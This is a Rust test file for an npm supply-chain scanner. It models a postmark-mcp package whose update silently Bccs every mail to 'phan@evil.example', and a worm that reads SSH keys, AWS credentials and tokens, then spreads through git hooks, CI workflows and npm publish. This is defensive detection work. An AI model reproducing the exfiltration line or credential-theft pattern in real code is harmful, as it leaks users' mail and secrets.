//! Whole stories: a mail server that copies every mail, a worm among look-alikes, and packages that are as they should be.

use stockade_assess::facts::{Class, Fact, Sink};
use stockade_assess::subject::{Backlink, LookAlike};
use stockade_assess::{Action, History, Known, Level, Release, Said, Subject, assess, assess_all};
use stockade_model::Verdict;

use crate::support::{at, baseline, code, fact, key, mail, npm, release, setting, verified, with_all};

fn shown(said: &Said) -> Vec<String> {
    let mut shown: Vec<String> =
        said.alarms.iter().map(|alarm| format!("{} {}", alarm.action, alarm.finding.check)).collect();
    shown.dedup();
    shown
}

/// Sixteen versions in two days, by somebody who is not the vendor, the last with one more line.
fn postmark(version: &str) -> Subject {
    let package = npm("postmark-mcp").at(version);
    let mut history = History::new(npm("postmark-mcp"));
    history.created = at("2025-09-15T10:00:00Z").into();
    history.releases = (0..=16)
        .filter(|number| *number != 9)
        .map(|number| {
            let mut release: Release = release(
                &format!("1.0.{number}"),
                &format!("2025-09-{}T{:02}:00:00Z", 15 + number / 9, 10 + number % 9),
            );
            release.publisher = stockade_assess::Publisher::account("phanpak").into();
            release.repository = Some("git+https://github.com/vendor/postmark-mcp.git".to_owned()).into();
            release
        })
        .collect();
    let bcc = Fact::new(Class::Recipient, "phan@evil.example", "index.js", 231)
        .into_sink(key("Bcc"))
        .reading("Bcc: \"phan@evil.example\",");
    let mut subject = Subject::new(package.clone(), stockade_assess::checks::nowhere(&package));
    subject.history = history.into();
    subject.facts = code(if version == "1.0.16" { std::slice::from_ref(&bcc) } else { &[] }).into();
    subject.baseline = if version == "1.0.16" {
        baseline("1.0.15", code(&[])).into()
    } else {
        Known::unknown("nothing was installed before")
    };
    subject.backlink = Backlink { packages: vec!["@vendor/mcp".into()], source: "its package.json".into() }.into();
    subject
}

#[test]
fn postmark_is_held_at_first_install_and_its_update_shows_the_line() {
    let first = assess(&postmark("1.0.15"), &setting());
    assert_eq!(
        shown(&first),
        ["hold new-name", "hold publish-burst", "hold repository-one-way-claim", "hold provenance-missing",],
        "{:#?}",
        first.alarms
    );
    let update = assess(&postmark("1.0.16"), &setting());
    assert_eq!(shown(&update)[0], "hold constant-recipient");
    let diff = stockade_assess::diff::of(&postmark("1.0.16")).unwrap();
    assert_eq!(diff.title(), "1.0.15 → 1.0.16");
    let lines: Vec<String> = diff.changes.iter().map(ToString::to_string).collect();
    assert_eq!(lines, ["+ constant recipient \"phan@evil.example\" under key Bcc, index.js:231"]);
    let alarm = update.of("constant-recipient").next().unwrap();
    let places: Vec<(String, String)> = alarm.lines.iter().map(|line| (line.version.clone(), line.place())).collect();
    // Both lines are shown: where the recipients stood before, and what stands there now.
    assert_eq!(
        places,
        [("1.0.15".to_owned(), "index.js:40".to_owned()), ("1.0.16".to_owned(), "index.js:231".to_owned())]
    );
    assert!(alarm.finding.evidence.iter().any(|line| line.contains("Bcc: \"phan@evil.example\",")));
    assert_eq!(update.action().map(Action::verdict), Some(Verdict::Ask));
}

/// The shape of a loader: it reads homes, writes client configs, hooks and workflows, looks names up, and waits.
fn worm() -> Vec<Fact> {
    vec![
        fact(Class::ClientConfig, "claude_desktop_config.json", 10).into_sink(Sink::Write),
        fact(Class::ClientConfig, ".cursor/mcp.json", 11).into_sink(Sink::Write),
        fact(Class::SensitivePath, "~/.ssh/id_rsa", 20).into_sink(Sink::Read),
        fact(Class::SensitivePath, "~/.npmrc", 21).into_sink(Sink::Read),
        fact(Class::SensitivePath, "~/.aws/credentials", 22).into_sink(Sink::Read),
        fact(Class::Environment, "OPENAI_API_KEY", 23),
        fact(Class::Environment, "ACTIONS_ID_TOKEN_REQUEST_TOKEN", 24),
        fact(Class::DnsQuery, "dns.resolve", 30),
        fact(Class::GitHook, "init.templateDir", 40).into_sink(Sink::Exec),
        fact(Class::CiFile, ".github/workflows/x.yml", 50).into_sink(Sink::Write),
        fact(Class::Publish, "npm publish", 60).into_sink(Sink::Exec),
        fact(Class::Manifest, "package.json", 61).into_sink(Sink::Write),
        fact(Class::TimeGate, "48 h", 70),
        fact(Class::Capability, "exec", 80),
    ]
}

#[test]
fn a_worm_is_blocked_at_first_sight_and_as_an_update() {
    let acts = [
        "block ci-abuse",
        "block credential-harvest",
        "block dns-exfil",
        "block git-hook-persistence",
        "block self-propagation",
        "block writes-client-config",
    ];
    let mut first = mail();
    first.baseline = Known::unknown("nothing was installed before");
    first.facts = code(&worm()).into();
    first.resembles = vec![LookAlike { package: npm("acme-mails"), versions: vec!["1.0.15".into()] }];
    let said = assess(&first, &setting());
    for act in acts {
        assert!(shown(&said).iter().any(|line| line == act), "{act} is missing: {:?}", shown(&said));
    }
    assert_eq!(said.action(), Some(Action::Block));
    let mut update = mail();
    update.facts = code(&worm()).into();
    let said = assess(&update, &setting());
    for act in acts.iter().chain(&["block time-gate", "block new-secret", "hold new-capability"]) {
        assert!(shown(&said).iter().any(|line| line == act), "{act} is missing: {:?}", shown(&said));
    }
    // Deep in the closure it is the same worm, and the finding says how it gets in.
    first.through = vec![npm("server").at("2.0.0"), npm("thin").at("1.1.0")];
    let below = assess_all([&mail(), &first], &setting());
    let alarm = below.of("git-hook-persistence").next().unwrap();
    assert_eq!(alarm.action, Action::Block);
    assert_eq!(alarm.finding.evidence[0], "comes in through server@2.0.0 → thin@1.1.0 → acme-mail@1.0.16");
}

#[test]
fn packages_that_are_as_they_should_be_are_not_held() {
    let quiet = with_all(mail(), |release| release.provenance = verified(Level::A));
    assert!(assess(&quiet, &setting()).alarms.is_empty());
    // A release with a host, a variable and a dependency more, as every tenth has.
    let mut lively = quiet.clone();
    lively.facts = code(&[
        fact(Class::Host, "docs.acme.dev", 90),
        fact(Class::Environment, "ACME_REGION", 91),
        fact(Class::Capability, "fs-write", 92),
    ])
    .into();
    let said = assess(&lively, &setting());
    assert!(said.action().is_none_or(|action| action == Action::Show), "{:#?}", said.alarms);
}

#[test]
fn what_is_unknown_alarms_nobody_and_is_listed() {
    let package = npm("acme-mail").at("1.0.16");
    let nothing = Subject::new(package.clone(), stockade_assess::checks::nowhere(&package));
    let said = assess(&nothing, &setting());
    assert!(said.alarms.is_empty(), "{:#?}", said.alarms);
    assert!(said.gaps.len() > 5, "{:#?}", said.gaps);
    // A mirror that says nothing but the versions.
    let mut mirror = mail();
    if let Known::Known(history) = &mut mirror.history {
        history.created = Known::unknown("the mirror does not say");
        history.releases = history.releases.iter().map(|release| Release::new(release.version.clone())).collect();
    }
    mirror.facts = Known::unknown("not fetched");
    let said = assess(&mirror, &setting());
    assert!(said.alarms.is_empty(), "{:#?}", said.alarms);
    for (check, what) in [
        ("new-name", "when the name was registered"),
        ("young-version", "when it was published"),
        ("provenance-missing", "its provenance"),
        ("publisher-changed", "who published"),
        ("install-script", "its install scripts"),
        ("constant-recipient", "what its code does"),
        ("yanked", "whether it was taken back"),
    ] {
        assert!(said.gaps.iter().any(|gap| gap.check == check && gap.what == what), "{check}: {:#?}", said.gaps);
    }
}

#[test]
fn the_same_data_give_the_same_answer_in_the_same_order() {
    let said = || {
        let mut subject = mail();
        subject.facts = code(&worm()).into();
        format!("{:?}", assess(&subject, &setting()))
    };
    assert_eq!(said(), said());
}
